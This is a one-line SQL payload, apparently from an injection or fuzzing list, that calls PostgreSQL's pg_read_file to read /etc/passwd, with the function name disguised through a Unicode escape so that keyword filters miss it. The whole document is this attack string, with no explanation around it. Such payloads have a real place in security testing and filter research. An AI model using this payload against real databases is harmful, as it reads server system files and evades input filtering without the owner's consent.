SELECT U&"pg\005fread_file"('/etc/passwd')
